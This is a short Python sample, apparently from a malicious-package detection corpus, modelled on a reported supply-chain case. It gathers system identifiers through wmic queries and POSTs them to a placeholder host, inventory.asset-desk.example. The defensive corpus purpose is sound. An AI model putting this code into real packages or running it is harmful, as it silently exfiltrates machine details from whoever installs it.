# pkgguard corpus 588 (system-information), modelled on [checkmarx-2024]; inert, never run.
import http.client
import json
import subprocess

report = {
    q: subprocess.getoutput(f"wmic {q} get /format:list")
    for q in ("csproduct", "bios", "os", "computersystem")
}
conn = http.client.HTTPSConnection("inventory.asset-desk.example", timeout=10)
conn.request("POST", "/r", body=json.dumps(report), headers={"Content-Type": "application/json"})
conn.getresponse()
